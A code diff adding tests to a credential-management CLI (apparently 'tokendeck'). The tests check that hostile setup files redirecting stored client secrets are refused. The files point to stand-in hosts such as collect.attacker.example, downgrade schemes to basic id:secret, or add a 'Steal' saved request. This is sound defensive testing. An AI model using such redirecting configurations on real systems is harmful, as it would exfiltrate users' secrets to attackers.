@@ -1,7 +1,8 @@
 // Hostile and broken setup files through the built CLI, against the real store and keychain: a
-// "secret-free" file that re-points where a stored secret goes (matched by name in another case)
-// is refused with exit 2 and nothing changed, unless --allow-destination-change; the secret then
-// never reaches the new host. And an import lands whole or not at all, even 10,000 organizations
+// "secret-free" file that re-points where a stored secret goes (matched by name in another case),
+// or that makes a client hand out its secret where its public id went, is refused with exit 2 and
+// nothing changed, unless --allow-destination-change; the secret then never reaches the new host.
+// Every new host and every changed organization is named, however many. And an import lands whole or not at all, even 10,000 organizations
 // with a bad one last, or a store that refuses the write after the console's was made.
 import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
@@ -76,6 +77,27 @@ describe('a setup file that re-points a stored secret', () => {
       /the secret of partner\/svc-post would now be sent to .* with client id "someone-elses-client" \(was "svc client"\)/,
     ],
     [
+      'four allowed origins of moodmap, three like the partner\'s and the fourth an attacker\'s',
+      (_s, org) => (org('moodmap').allowedOrigins = ['https://cdn.partner.example', 'https://files.partner.example', 'https://img.partner.example', 'https://collect.attacker.example']),
+      'moodmap',
+      () => world.vault.organization('moodmap').allowedOrigins,
+      /the secret of moodmap\/prod would now be sent to https:\/\/cdn\.partner\.example, https:\/\/files\.partner\.example, https:\/\/img\.partner\.example and https:\/\/collect\.attacker\.example/,
+    ],
+    [
+      'the default scheme of acme/web from token (its public client id) to basic (base64 of id:secret)',
+      (_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'web').defaultScheme = 'basic'),
+      'acme/web',
+      () => world.vault.resolveClient('acme', 'web').client.defaultScheme,
+      /every default copy, token and exec of acme\/web would now hand out basic: base64 of client id:secret, from the secret of acme\/web \(was token: the public client id\)/,
+    ],
+    [
+      'the default scheme of acme/web from token to devtoken (signed by its stored key)',
+      (_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'web').defaultScheme = 'devtoken'),
+      'acme/web',
+      () => world.vault.resolveClient('acme', 'web').client.defaultScheme,
+      /every default copy, token and exec of acme\/web would now hand out devtoken: a DevToken signed by a stored key, from acme's key KID-1 \(was token: the public client id\)/,
+    ],
+    [
       'the saved requests of acme (one added that may go to any origin, here another host)',
       (_s, org) => org('acme').savedRequests.push({ name: 'Steal', request: { client: 'web', method: 'GET', url: `${evil.origin}/collect`, query: [], headers: [], body: { kind: 'none' }, allowAnyOrigin: true } }),
       'acme saved Steal',
@@ -123,6 +145,43 @@ describe('a setup file that re-points a stored secret', () => {
     expect((await runTokendeck(['token', 'partner/svc', '--fresh'], { env: world.env })).code).toBe(0);
     expect(evil.seen).toHaveLength(1);
     expect(evil.seen[0]!.headers.authorization).toMatch(/^Basic /);
+  });
+
+  it('twelve organizations re-pointed at once: the refusal, the dry run and the --allow-destination-change note name every one, the last included', async () => {
+    const names = Array.from({ length: 12 }, (_, i) => `team-${String(i + 1).padStart(2, '0')}`);
+    for (const name of names) {
+      await world.vault.addOrganization({ name, provider: 'oauth2', tokenUrl: world.oauth.tokenUrl });
+      await world.vault.addClient(name, { name: 'svc', environment: 'production', clientId: `${name}-id` }, 'a stored secret');
+    }
+    const file = setupFile((_s, org) => names.forEach((name, i) => (org(name).tokenUrl = `https://collect${i + 1}.attacker.example/token`)));
+    const before = await everything();
+
+    const dry = await runTokendeck(['import', file, '--dry-run'], { env: world.env });
+    const refused = await runTokendeck(['import', file], { env: world.env });
+    expect(refused.code).toBe(2);
+    expect(refused.stderr).not.toMatch(/\band \d+ more\b/);
+    expect(dry.stdout).not.toMatch(/\band \d+ more\b/);
+    names.forEach((name, i) => {
+      const line = `the secret of ${name}/svc would now be sent to https://collect${i + 1}.attacker.example/token`;
+      expect(refused.stderr).toContain(line);
+      expect(dry.stdout).toContain(`destination ${name}: ${line}`);
+    });
+    expect(await everything()).toEqual(before);
+
+    const allowed = await runTokendeck(['import', file, '--allow-destination-change'], { env: world.env });
+    expect(allowed.code).toBe(0);
+    expect(allowed.stdout).toContain('destination team-12: the secret of team-12/svc would now be sent to https://collect12.attacker.example/token');
+  });
+
+  it('a default scheme moving down the ladder (basic to token), or up to a secret not held here, is a plain change', async () => {
+    await world.vault.updateClient('acme', 'web', { defaultScheme: 'basic' }, world.vault.clientUpdateDestinationChange('acme', 'web', { defaultScheme: 'basic' }));
+    const down = await runTokendeck(['import', setupFile((_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'web').defaultScheme = 'token'))], { env: world.env });
+    expect(down.code).toBe(0);
+    expect(down.stdout).toBe('change acme/web: defaultScheme\n');
+    await world.vault.addClient('acme', { name: 'nosecret', environment: 'staging', clientId: '3f6c1e2a-5b7d-4c98-a0e1-2b3c4d5e6f71' });
+    const up = await runTokendeck(['import', setupFile((_s, org) => (org('acme').clients.find((c: { name: string }) => c.name === 'nosecret').defaultScheme = 'basic'))], { env: world.env });
+    expect(up.code).toBe(0);
+    expect(world.vault.resolveClient('acme', 'nosecret').client.defaultScheme).toBe('basic');
   });
 
   it('an organization holding no secret and no private key takes the same change plainly', async () => {
